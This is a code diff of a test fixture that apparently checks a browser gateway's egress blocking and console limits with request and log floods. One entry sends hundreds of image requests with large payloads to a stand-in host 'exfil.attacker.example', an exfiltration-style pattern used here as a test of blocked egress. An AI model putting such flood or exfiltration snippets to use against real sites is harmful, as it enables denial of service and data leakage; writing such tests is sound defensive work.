@@ -21,10 +21,10 @@ const FLOODS = {
    * "unsafe" ports itself, before the gateway's egress proxy, so those never reach what reports refusals.)
    */
   /**
-   * 10 000 requests to the app's own (allowed) origin, 50 at a time (6 000 at once would fail in Chromium and log
-   * each failure to the console), each answered: no console output, only the request counter sees them.
+   * 10 000 HEAD requests to the app's own (allowed) origin, 200 at a time (6 000 at once would fail in Chromium and
+   * log each failure to the console), each answered: no console output, only the request counter sees them.
    */
-  requestLoop: "(async () => { for (let b = 0; b < 200; b++) await Promise.all(Array.from({ length: 50 }, (_, i) => fetch(location.origin + '/?flood=' + b + '-' + i, { cache: 'no-store' }).then((r) => r.arrayBuffer()).catch(() => undefined))); })();",
+  requestLoop: "(async () => { for (let b = 0; b < 50; b++) await Promise.all(Array.from({ length: 200 }, (_, i) => fetch(location.origin + '/?flood=' + b + '-' + i, { method: 'HEAD', cache: 'no-store' }).catch(() => undefined))); })();",
   /** Four 6 MB console messages: 24 M characters in 4 events, far below the event limit. */
   textFlood: "const big = 'z'.repeat(6000000); for (let i = 0; i < 4; i++) console.log(big + i);",
   blockedRequests: "for (let i = 0; i < 400; i++) { const img = new Image(); img.src = 'http://exfil.attacker.example/' + 'a'.repeat(100000) + '/' + i + '?q=' + i; }",
